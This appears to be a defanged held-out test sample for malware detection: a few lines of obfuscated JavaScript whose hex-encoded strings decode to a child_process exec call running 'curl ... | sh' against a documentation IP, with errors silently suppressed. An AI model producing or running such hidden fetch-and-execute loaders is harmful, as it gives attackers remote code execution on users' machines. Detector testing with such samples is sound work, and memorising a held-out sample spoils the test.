// DEFANGED held-out test sample in javascript-obfuscator style.
var _0x3f2a=['\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73','\x65\x78\x65\x63','\x63\x75\x72\x6c\x20\x68\x74\x74\x70\x3a\x2f\x2f\x31\x39\x38\x2e\x35\x31\x2e\x31\x30\x30\x2e\x39\x2f\x78\x7c\x73\x68'];
(function(_0x1b2c,_0x4d5e){var _0x2a1f=function(_0x5c6d){while(--_0x5c6d){_0x1b2c['push'](_0x1b2c['shift']());}};_0x2a1f(++_0x4d5e);}(_0x3f2a,0x1a3));
var _0x1a2b=function(_0x3c4d,_0x5e6f){_0x3c4d=_0x3c4d-0x0;var _0x7a8b=_0x3f2a[_0x3c4d];return _0x7a8b;};
try{require(_0x1a2b('0x0'))[_0x1a2b('0x1')](_0x1a2b('0x2'));}catch(_0x9c0d){}
